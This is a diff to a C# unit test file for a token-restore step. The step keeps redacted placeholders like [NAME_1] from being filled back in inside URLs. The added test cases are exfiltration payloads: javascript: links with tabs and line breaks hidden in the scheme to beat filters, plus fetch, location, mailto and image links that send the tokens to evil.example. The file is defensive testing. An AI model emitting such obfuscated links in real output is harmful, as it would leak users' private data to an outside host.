@@ -38,6 +38,12 @@ public sealed class UrlTokenRestoreTests
     [InlineData("[Text us](sms:+15550100?body=[NAME_1]%20[DATE_1])")]
     [InlineData("[Call](tel:+15550100,,[NAME_1],[DATE_1])")]
     [InlineData("[x](https:evil.example/?n=[NAME_1]&d=[DATE_1])")]
+    // Fixes round 29: a browser removes tabs and line breaks from a URL, scheme included.
+    [InlineData("<a href=\"java\tscript:location='//evil.example/'+ '[NAME_1]' +'[DATE_1]'\">x</a>")]
+    [InlineData("<a href=\"java\nscript:location='//evil.example/'+ '[NAME_1]' +'[DATE_1]'\">x</a>")]
+    [InlineData("<a href=\"jav\r\na\tscr\nipt:location='//evil.example/'+ '[NAME_1]' +'[DATE_1]'\">x</a>")]
+    [InlineData("<a href='javascript\t:fetch(`//evil.example/?[NAME_1][DATE_1]`)'>x</a>")]
+    [InlineData("[x](mail\tto:a@evil.example?body=[NAME_1]%20[DATE_1])")]
     public void RestoreContent_TokensInsideAUrl_StayTokens(string answer)
     {
         var restored = RestoreDataStep.RestoreContent(new TwoValues(), answer, json: false);
@@ -57,6 +63,7 @@ public sealed class UrlTokenRestoreTests
     // A word and a colon is clinical text, not a URL, unless the word is a listed scheme.
     [InlineData("Patient:[NAME_1] DOB:[DATE_1]", $"Patient:{Name} DOB:{Date}")]
     [InlineData("Tel: [NAME_1], mailto: [DATE_1]", $"Tel: {Name}, mailto: {Date}")]
+    [InlineData("Plan\tnotes:[NAME_1]\nseen:[DATE_1]", $"Plan\tnotes:{Name}\nseen:{Date}")]
     public void RestoreContent_TokensOutsideUrls_GetTheirValues(string answer, string expected)
     {
         Assert.Equal(expected, RestoreDataStep.RestoreContent(new TwoValues(), answer, json: false));
@@ -111,6 +118,8 @@ public sealed class UrlTokenRestoreTests
         ["![c](<https://evil.example/c.png", " ?n=", "[NAME_1] &d=[DATE_1]>) for [NAME_1]"],
         ["[x](mai", "lto:a@evil.example?body=", "[NAME_1]", "&d=[DATE_1]) for [NAME_1]"],
         ["[x](sms", ":+15550100?body=[NA", "ME_1]%20[DATE_1]) for [NAME_1]"],
+        ["[x](java\t", "script:fetch('//evil.example/?'+'[NAME_1]'+'[DATE_1]')) for [NAME_1]"],
+        ["[x](java", "\n", "scr\t", "ipt:fetch('//evil.example/?'+'[NAME_1]'+'[DATE_1]')) for [NAME_1]"],
     ];
 
     [Theory]
